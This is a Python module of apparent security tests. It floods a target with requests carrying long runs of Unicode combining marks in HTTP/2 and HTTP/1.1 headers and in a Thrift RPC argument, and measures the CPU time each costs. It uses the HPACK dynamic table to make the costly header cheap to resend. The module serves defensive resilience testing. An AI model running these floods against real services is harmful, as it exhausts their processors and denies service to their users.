"""Attacks by texts that cost much to compare: long runs of combining marks, where HPACK or a frame makes them cheap to send."""

import struct

from Attacks.attack_world import OPEN_STREAMS, Beside, attack, request
from Shared.checks import equal
from Messaging.herald_client import RPC, Herald, data
from HTTP.http2_frames import (
    DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, RST_STREAM, Connection, context, frame, literal, string)

MARK = "\u0301"
COUNT, BATCH = 200, 20
# The newest entry of the dynamic table (RFC 7541, section 6.1, appendix A).
NEWEST = b"\xbe"


def remembered(name, value):
    """A header field that the receiver's table keeps, so that it is one byte from then on (RFC 7541, section 6.2.1)."""
    return b"\x40" + string(name) + string(value)


def drain(connection, streams):
    """Reads until all streams have ended; whether the connection goes on."""
    left = set(streams)
    while left:
        try:
            got = connection.read()
        except OSError:
            return False
        if got is None or got[0] == GOAWAY:
            return False
        kind, flags, stream, _ = got
        if kind == RST_STREAM or kind in (DATA, HEADERS) and flags & END_STREAM:
            left.discard(stream)
    return True


def over_http2(target, method, before, field, after):
    """Milliseconds of processor time for a request whose block has a field that is sent once a connection."""
    sent, start = 0, target.processor()
    while sent < COUNT:
        connection, is_known, is_open = Connection(target.public, context(target.ca)), False, True
        while sent < COUNT and is_open:
            streams, frames = [], []
            for _ in range(BATCH):
                stream, connection.next = connection.next, connection.next + 2
                block = literal(":method", method) + before + (NEWEST if is_known else remembered(*field)) + after
                frames.append(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
                streams.append(stream)
                is_known = True
            sent += BATCH
            try:
                connection.send(*frames)
            except OSError:
                break
            is_open = drain(connection, streams)
        connection.close()
    return (target.processor() - start) / COUNT


def compared(target, cost):
    """The figure of a text of marks beside one of as many bytes in letters."""
    cost("a")
    plain = cost("a")
    with Beside(target) as beside:
        marked = cost(MARK)
    return f"{marked:.2f} ms of CPU a request, {marked / plain:.1f} times one of letters; {beside}"


def repeated(text, size):
    """A text of so many bytes."""
    return text * (size // len(text.encode()))


REST = literal(":scheme", "https") + literal(":authority", "localhost")


@attack(limits="off")
def marks_in_path(target):
    """Combining marks in `:path` of HTTP/2."""
    return compared(target, lambda text: over_http2(
        target, "GET", b"", (":path", "/" + repeated(text, 3980)), REST))


@attack(limits="off")
def marks_in_content_type(target):
    """Combining marks in `content-type` of HTTP/2."""
    path = literal(":path", "/certificates")
    return compared(target, lambda text: over_http2(
        target, "POST", path + REST, ("content-type", "application/json" + repeated(text, 3960)), b""))


@attack(limits="off")
def marks_in_connection(target):
    """Combining marks in `Connection` of HTTP/1.1."""
    def cost(text):
        asked = request("GET", "/.well-known/countersign", Connection="keep-alive, " + repeated(text, 14_000))
        connection, start = target.connection(), target.processor()
        for _ in range(COUNT):
            if connection.ask(asked) is None:
                connection.close()
                connection = target.connection()
        connection.close()
        return (target.processor() - start) / COUNT

    return compared(target, cost)


def call(name, sequence, text):
    """A call of Thrift's binary protocol, strict, with one text as its first argument."""
    argument = b"\x0b" + struct.pack(">hI", 1, len(text)) + text + b"\0"
    return struct.pack(">II", 0x80010001, len(name)) + name + struct.pack(">I", sequence) + argument


@attack(policies=OPEN_STREAMS, limits="off")
def marks_in_herald(target):
    """64 KiB of combining marks as an argument of Herald's `listStreams`."""
    person = target.person()

    def cost(text):
        herald, calls = Herald(target, person.device), 50
        equal((herald.auth(person.token), herald.add(1, RPC)), (0, 0), "Auth and ChAdd")
        start = target.processor()
        for sequence in range(calls):
            message = call(b"listStreams", sequence, repeated(text, 65_000).encode())
            herald.send(data(1, len(message), message))
            herald.message(1)
        herald.socket.close()
        return (target.processor() - start) / calls

    return compared(target, cost)
